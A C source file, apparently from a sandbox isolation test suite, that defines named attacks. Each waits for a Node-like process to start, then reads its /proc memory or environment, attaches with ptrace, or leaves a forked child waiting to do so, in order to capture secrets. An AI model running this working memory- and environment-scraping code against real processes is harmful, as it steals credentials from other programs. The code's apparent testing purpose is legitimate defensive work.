// Waits for a process to start and reaches for it before its first instruction of
// JavaScript. Arguments: a word of its command line. What it does then is the attack's name.
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

int CommandLineHas(pid_t process, const char* word) {
  char path[64];
  static char line[1 << 15];
  snprintf(path, sizeof path, "/proc/%d/cmdline", (int)process);
  const int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0) return 0;
  const ssize_t length = read(file, line, sizeof line);
  close(file);
  return length > 0 && memmem(line, (size_t)length, word, strlen(word)) != NULL;
}

// The process that has the word in its command line and is not in `known`; 0: none yet, -1: refused.
static pid_t Find(const char* word, pid_t* known, size_t* count, size_t room) {
  DIR* processes = opendir("/proc");
  if (processes == NULL) {
    Refused("/proc");
    return -1;
  }
  pid_t found = 0;
  const struct dirent* entry;
  while (found == 0 && (entry = readdir(processes)) != NULL) {
    const pid_t process = (pid_t)atoi(entry->d_name);
    if (process <= 1 || process == getpid() || !CommandLineHas(process, word)) continue;
    size_t i = 0;
    while (i < *count && known[i] != process) i++;
    if (i == *count) found = process;
  }
  closedir(processes);
  if (found > 0 && *count < room) known[(*count)++] = found;
  return found;
}

// Closed when the watch has begun, for whoever waits for that.
static int begun = -1;

// The first one to start from now on; 0: none did. `wait` is called between two looks.
static pid_t Next(const char* word, void (*wait)(void)) {
  static pid_t known[64];
  size_t count = 0;
  pid_t found;
  while ((found = Find(word, known, &count, 64)) > 0) continue;
  if (found < 0) return 0;
  printf("watching\n");
  if (begun >= 0) close(begun);
  while ((found = Find(word, known, &count, 64)) == 0) wait();
  return found;
}

static void Pause(void) {
  usleep(2000);
}

static int notify = -1;

// A file that is opened when a program of Node's starts: its own binary.
static void UntilOpened(void) {
  static char events[4096];
  if (read(notify, events, sizeof events) <= 0) Pause();
}

static void Open(pid_t process, FILE** maps, int* memory) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/maps", (int)process);
  *maps = fopen(path, "re");
  snprintf(path, sizeof path, "/proc/%d/mem", (int)process);
  *memory = open(path, O_RDONLY | O_CLOEXEC);
  if (*memory < 0) Refused(path);
}

// Opened now, read when it is hardened and holds what it lives for.
static void Hold(pid_t process) {
  FILE* maps;
  int memory;
  Open(process, &maps, &memory);
  if (maps == NULL || memory < 0) return;
  for (int looks = 0; looks < 4; looks++) {
    usleep(500 * 1000);
    rewind(maps);
    HuntMemory(maps, memory);
  }
}

static void StartMem(pid_t target, char** arguments) {
  (void)target;
  const pid_t found = arguments[0] == NULL ? 0 : Next(arguments[0], Pause);
  if (found > 0) Hold(found);
}

static void StartEnviron(pid_t target, char** arguments) {
  (void)target;
  const pid_t found = arguments[0] == NULL ? 0 : Next(arguments[0], Pause);
  if (found > 0) HuntFile(found, "environ");
}

static void StartInotify(pid_t target, char** arguments) {
  (void)target;
  if (arguments[0] == NULL || arguments[1] == NULL) return;
  notify = inotify_init1(IN_CLOEXEC);
  if (notify < 0 || inotify_add_watch(notify, arguments[1], IN_OPEN) < 0) {
    Refused("inotify");
    return;
  }
  const pid_t found = Next(arguments[0], UntilOpened);
  if (found > 0) Hold(found);
}

static void StartTrace(pid_t target, char** arguments) {
  (void)target;
  pid_t found = arguments[0] == NULL ? 0 : Next(arguments[0], Pause);
  if (found <= 0) return;
  int status;
  if (ptrace(PTRACE_ATTACH, found, NULL, NULL) != 0) {
    Refused("ptrace(PTRACE_ATTACH)");
    return;
  }
  if (waitpid(found, &status, __WALL) == found) ForEachRegion(found, PeekStackTop, &found);
  ptrace(PTRACE_DETACH, found, NULL, NULL);
}

// What an earlier task left behind waits as well.
static void StartLeftBehind(pid_t target, char** arguments) {
  int ends[2];
  if (pipe(ends) != 0) return;
  const pid_t child = fork();
  if (child == 0) {
    close(ends[0]);
    begun = ends[1];
    setsid();
    if (fork() == 0) {
      alarm(12);  // alarms do not pass a fork
      StartMem(target, arguments);
      fflush(stdout);
    }
    _exit(0);
  }
  close(ends[1]);
  if (child < 0) Refused("fork");
  else waitpid(child, NULL, 0);
  char byte;
  if (read(ends[0], &byte, 1) < 0) Refused("read");
}

ATTACK("start-mem", StartMem)
ATTACK("start-environ", StartEnviron)
ATTACK("start-inotify", StartInotify)
ATTACK("start-trace", StartTrace)
ATTACK("start-left-behind", StartLeftBehind)
